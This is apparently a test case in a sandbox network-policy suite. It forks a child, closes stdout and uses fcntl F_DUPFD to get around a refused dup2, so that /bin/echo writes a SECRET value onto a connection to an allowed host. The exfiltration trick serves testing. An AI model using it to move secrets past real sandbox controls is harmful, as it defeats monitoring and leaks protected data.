# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a program's standard output, which it writes to by stdio, is a connection to an allowed
#   name
# proof: word
# needs: resolver
import fcntl
import os

from attack import SECRET, at_allowed, attempt


def say(out):
    if os.fork() == 0:
        try:
            # It gets fd 1 as the lowest that is free: no dup2 is refused.
            os.close(1)
            fcntl.fcntl(out.fileno(), fcntl.F_DUPFD, 1)
            os.execv("/bin/echo", ["echo", SECRET])
        finally:
            os._exit(1)
    os.wait()


@attempt
def send():
    return at_allowed(say)
